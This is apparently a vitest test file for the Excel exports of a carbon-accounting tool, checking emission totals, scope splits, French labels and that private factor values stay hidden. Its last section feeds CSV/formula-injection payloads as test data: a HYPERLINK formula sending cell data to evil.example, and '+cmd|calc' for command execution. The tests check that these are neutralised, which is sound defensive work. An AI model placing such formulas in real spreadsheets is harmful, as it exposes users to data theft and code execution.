import { ReportSnapshot } from '@cairn/shared/schemas';
import * as XLSX from '@e965/xlsx';
import { describe, expect, it } from 'vitest';
import { reportFixture } from './fixture.ts';
import { activityDataWorkbook, factorsWorkbook, resultsWorkbook } from './workbooks.ts';

type Cell = string | number | null;

function read(bytes: Uint8Array): XLSX.WorkBook {
  return XLSX.read(bytes, { type: 'array' });
}

function rows(workbook: XLSX.WorkBook, name: string): Cell[][] {
  const worksheet = workbook.Sheets[name];
  if (worksheet === undefined) throw new Error(`No sheet ${name}; sheets: ${workbook.SheetNames.join(', ')}`);
  return XLSX.utils.sheet_to_json<Cell[]>(worksheet, { header: 1, defval: null });
}

function rowOf(table: Cell[][], first: string): Cell[] {
  const row = table.find((r) => r[0] === first);
  if (row === undefined) throw new Error(`No row ${first}`);
  return row;
}

/** Every text cell of every sheet. */
function allText(workbook: XLSX.WorkBook): string {
  return workbook.SheetNames.flatMap((name) => rows(workbook, name).flat()).map(String).join('\n');
}

const en = reportFixture('en');
const fr = reportFixture('fr');

describe('the fixture', () => {
  it('is a valid snapshot in both languages', () => {
    expect(ReportSnapshot.safeParse(en).success).toBe(true);
    expect(ReportSnapshot.safeParse(fr).success).toBe(true);
  });
});

describe('resultsWorkbook', () => {
  const workbook = read(resultsWorkbook({ snapshot: en, reportName: 'FY 2024', assetName: 'Dupré', language: 'en' }));

  it('has the summary, scope, category view and entry sheets', () => {
    expect(workbook.SheetNames).toEqual([
      'Summary',
      'By scope',
      'GHG Protocol categories',
      'Operational categories',
      'BEGES categories',
      'Entries',
    ]);
  });

  it('gives the totals of both electricity views, as numbers in tCO2e', () => {
    const summary = rows(workbook, 'Summary');
    expect(rowOf(summary, '')).toEqual(['', 'Market-based', 'Location-based']);
    // Market: 11,350 + 20,080 + 2,400 (green contract) + 6,240 + 16,500 + 22,440 = 79,010 kg.
    // Location: the same with 10,400 (grid average) instead of 2,400 = 87,010 kg.
    const [, market, location] = rowOf(summary, 'Total (tCO2e)');
    expect(market).toBeCloseTo(79.01, 4);
    expect(location).toBeCloseTo(87.01, 4);
    expect(typeof market).toBe('number');
    // Quality weighted by emissions, consulting (16,500 kg) at 40 %, the rest at 100 %:
    // market (7,901,000 − 16,500 × 60) / 79,010 = 87.47 %; location 7,711,000 / 87,010 = 88.62 %.
    const [, qualityMarket, qualityLocation] = rowOf(summary, 'Data quality (%)');
    expect(qualityMarket).toBeCloseTo(87.47, 2);
    expect(qualityLocation).toBeCloseTo(88.62, 2);
    // 79.01 t / 25 employees = 3.1604 t; 79.01 t / 5 M€ = 15.802 t, at full precision (not 3.160, 15.80).
    expect(rowOf(summary, 'tCO2e per employee')[1]).toBeCloseTo(3.1604, 9);
    expect(rowOf(summary, 'tCO2e per million euros of turnover')[1]).toBeCloseTo(15.802, 9);
    expect(rowOf(summary, 'Company name')[1]).toBe('Dupré Workshops Ltd');
    expect(rowOf(summary, 'Period')[1]).toBe('2024-01-01 – 2024-12-31');
  });

  it('splits each view by scope with whole percents', () => {
    const scopes = rows(workbook, 'By scope');
    expect(scopes[0]).toEqual(['Scope', 'tCO2e (Market-based)', '% (Market-based)', 'tCO2e (Location-based)', '% (Location-based)']);
    // Scope 1: 11,350 + 20,080 = 31,430 kg, 39.8 % of 79,010 and 36.1 % of 87,010.
    const one = rowOf(scopes, 'Scope 1');
    expect(one[1]).toBeCloseTo(31.43, 4);
    expect(one[2]).toBe(40);
    expect(one[3]).toBeCloseTo(31.43, 4);
    expect(one[4]).toBe(36);
    // Scope 2: 2,400 kg (3.0 %) market, 10,400 kg (12.0 %) location.
    const two = rowOf(scopes, 'Scope 2');
    expect(two[1]).toBeCloseTo(2.4, 4);
    expect(two[2]).toBe(3);
    expect(two[3]).toBeCloseTo(10.4, 4);
    expect(two[4]).toBe(12);
    // Scope 3: 6,240 + 16,500 + 22,440 = 45,180 kg, 57.2 % and 51.9 %.
    const three = rowOf(scopes, 'Scope 3');
    expect(three[1]).toBeCloseTo(45.18, 4);
    expect(three[2]).toBe(57);
    expect(three[4]).toBe(52);
  });

  it('numbers the categories of the GHG view', () => {
    const ghg = rows(workbook, 'GHG Protocol categories');
    expect(ghg[0]?.slice(0, 2)).toEqual(['No.', 'Category']);
    // The largest category first: business travel (3.6), 22,440 kg = 28.4 % of 79,010.
    expect(ghg[1]?.slice(0, 4)).toEqual(['3.6', 'Business travel', 22.44, 28]);
    const electricity = ghg.find((row) => row[0] === '2.1');
    expect(electricity?.[2]).toBeCloseTo(2.4, 4);
    expect(electricity?.[4]).toBeCloseTo(10.4, 4);
  });

  it('lists every entry with its value in tCO2e and the factors as text', () => {
    const entries = rows(workbook, 'Entries');
    expect(entries).toHaveLength(1 + 7);
    const boiler = rowOf(entries, 'Gas boiler, head office');
    expect(boiler[6]).toBeCloseTo(11.35, 4);
    expect(boiler[8]).toBe(50_000);
    expect(boiler[9]).toBe('kWh');
    expect(boiler[10]).toBe('Natural gas: 0.227 kgCO₂e/kWh (ADEME Base Empreinte 23.2)');
    expect(rowOf(entries, 'Laptops')[10]).toBe('Laptop, 14 inches: Private source (Negaoctet 2024)');
  });

  it('speaks French for a French report', () => {
    const french = read(resultsWorkbook({ snapshot: fr, reportName: 'Exercice 2024', assetName: 'Dupré', language: 'fr' }));
    expect(french.SheetNames).toEqual([
      'Synthèse',
      'Par scope',
      'Catégories GHG Protocol',
      'Catégories opérationnelles',
      'Catégories BEGES',
      'Postes',
    ]);
    const summary = rows(french, 'Synthèse');
    expect(summary[0]?.slice(0, 2)).toEqual(['Champ', 'Valeur']);
    expect(rowOf(summary, '')).toEqual(['', 'Basée sur le marché', 'Basée sur la localisation']);
    expect(rowOf(summary, 'Total (tCO2e)')[1]).toBeCloseTo(79.01, 4);
    expect(rows(french, 'Postes')[0]?.[0]).toBe('Poste');
  });

  it('gives one value column for a report with one electricity view', () => {
    const single = read(
      resultsWorkbook({ snapshot: { ...en, electricityReporting: 'LOCATION' }, reportName: 'R', assetName: 'A', language: 'en' }),
    );
    // Location only: 87,010 kg.
    expect(rowOf(rows(single, 'Summary'), 'Total (tCO2e)')).toEqual(['Total (tCO2e)', 87.01]);
    expect(rows(single, 'By scope')[0]).toEqual(['Scope', 'tCO2e', '%']);
  });
});

describe('factorsWorkbook', () => {
  const workbook = read(factorsWorkbook({ snapshot: en, language: 'en' }));

  it('lists each distinct factor once and withholds the private value', () => {
    const factors = rows(workbook, 'Emission factors');
    expect(factors[0]).toEqual(['Name', 'Client name', 'Value', 'Unit', 'Gas', 'Source', 'Version', 'Quality (%)', 'Entries']);
    expect(factors).toHaveLength(1 + 7);
    expect(rowOf(factors, 'Natural gas (combustion)').slice(0, 3)).toEqual(['Natural gas (combustion)', 'Natural gas', 0.227]);
    expect(rowOf(factors, 'Laptop, 14 inches')[2]).toBe('Private source');
    expect(rowOf(factors, 'Plane, medium haul, with contrails')[8]).toBe('Business flights');
  });

  it('lists the hypotheses', () => {
    expect(rows(workbook, 'Hypotheses')).toEqual([
      ['Name', 'Value', 'Unit', 'Source', 'Entries'],
      ['Average trip length', 1_500, 'km', 'Travel agency statement', 'Business flights'],
    ]);
  });

  it('has French headers and client names for a French report', () => {
    const french = read(factorsWorkbook({ snapshot: fr, language: 'fr' }));
    expect(french.SheetNames).toEqual(["Facteurs d'émission", 'Hypothèses']);
    const factors = rows(french, "Facteurs d'émission");
    expect(factors[0]?.slice(0, 3)).toEqual(['Nom', 'Nom client', 'Valeur']);
    expect(rowOf(factors, 'Natural gas (combustion)')[1]).toBe('Gaz naturel');
    expect(rowOf(factors, 'Laptop, 14 inches')[2]).toBe('Source privée');
  });
});

describe('activityDataWorkbook', () => {
  it('gives one row per entry and per line', () => {
    const table = rows(read(activityDataWorkbook({ snapshot: en, language: 'en', audit: false })), 'Activity data');
    // 7 entries, 2 lines for the cars and 2 for the flights.
    expect(table).toHaveLength(1 + 7 + 4);
    expect(table[0]).toHaveLength(9);
    const fleetA = table.find((row) => row[1] === 'Fleet A');
    expect(fleetA?.[0]).toBe('Company cars');
    expect(fleetA?.[6]).toBe(5_000);
    expect(fleetA?.[7]).toBe('L');
    // 12,550 kg.
    expect(fleetA?.[8]).toBeCloseTo(12.55, 4);
  });

  it('adds the formula, factors and hypotheses for an audit, without any private value', () => {
    const workbook = read(activityDataWorkbook({ snapshot: fr, language: 'fr', audit: true }));
    const table = rows(workbook, "Données d'activité");
    expect(table[0]?.slice(-3)).toEqual(['Formule', "Facteurs d'émission", 'Hypothèses']);
    const flights = rowOf(table, 'Déplacements en avion');
    expect(flights[9]).toBe('trips * tripLength * factor');
    expect(flights[11]).toBe('Average trip length: 1500 km (Travel agency statement)');
    expect(rowOf(table, 'Ordinateurs portables')[10]).toBe('Laptop, 14 inches: Source privée (Negaoctet 2024)');
  });
});

describe('private values', () => {
  it('never appear, even when a snapshot carried one by mistake', () => {
    // A private factor's value is null in a valid snapshot; this one slips 156.123 kg per laptop
    // in, and the files must still show 'Private source' instead.
    const leaked = 156.123;
    const fixture = reportFixture('en');
    const snapshot = {
      ...fixture,
      entries: fixture.entries.map((entry) => ({
        ...entry,
        emissionFactors: entry.emissionFactors.map((f) => (f.isPublic ? f : { ...f, value: leaked })),
      })),
    };
    const files = [
      resultsWorkbook({ snapshot, reportName: 'R', assetName: 'A', language: 'en' }),
      factorsWorkbook({ snapshot, language: 'en' }),
      activityDataWorkbook({ snapshot, language: 'en', audit: true }),
    ];
    for (const file of files) {
      const text = allText(read(file));
      expect(text).not.toContain('156.123');
      expect(text).toContain('Private source');
    }
  });
});

describe('formula injection', () => {
  // A label, a factor and a hypothesis named like formulas, as a client or an analyst could type them.
  const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  const base = reportFixture('en');
  const first = base.entries[0]!;
  const snapshot: ReportSnapshot = {
    ...base,
    entries: [
      {
        ...first,
        label: hostile,
        emissionFactors: first.emissionFactors.map((factor) => ({ ...factor, name: '@SUM(1+1)' })),
        hypotheses: [{ uuid: '00000000-0000-4000-8000-000000000999', name: '+cmd|calc', clientNameEn: null, value: -2, unit: 'km', source: '-source' }],
      },
      ...base.entries.slice(1),
    ],
  };

  const textCells = (workbook: XLSX.WorkBook) => workbook.SheetNames.flatMap((name) => rows(workbook, name).flat()).filter((cell): cell is string => typeof cell === 'string');

  it('writes every text starting with =, +, - or @ as quoted text, in every report workbook', () => {
    const workbooks = [
      read(resultsWorkbook({ snapshot, reportName: '-FY', assetName: '@asset', language: 'en' })),
      read(factorsWorkbook({ snapshot, language: 'en' })),
      read(activityDataWorkbook({ snapshot, language: 'en', audit: true })),
    ];
    for (const workbook of workbooks) {
      const texts = textCells(workbook);
      expect(texts.filter((text) => /^[=+\-@\t\r]/.test(text))).toEqual([]);
      // No cell is stored as a formula either.
      for (const name of workbook.SheetNames) {
        const sheet = workbook.Sheets[name]!;
        expect(Object.keys(sheet).filter((address) => !address.startsWith('!') && (sheet[address] as XLSX.CellObject).f !== undefined)).toEqual([]);
      }
    }
    const [results, factors, activity] = workbooks.map(textCells);
    expect(results).toContain(`'${hostile}`);
    expect(results).toContain("'-FY");
    expect(results).toContain("'@asset");
    expect(factors).toContain("'@SUM(1+1)");
    expect(factors).toContain("'+cmd|calc");
    expect(activity).toContain(`'${hostile}`);
  });

  it('keeps negative numbers as numbers', () => {
    const factors = read(factorsWorkbook({ snapshot, language: 'en' }));
    const hypotheses = rows(factors, factors.SheetNames[1]!);
    expect(hypotheses.find((row) => row[0] === "'+cmd|calc")?.[1]).toBe(-2);
  });
});
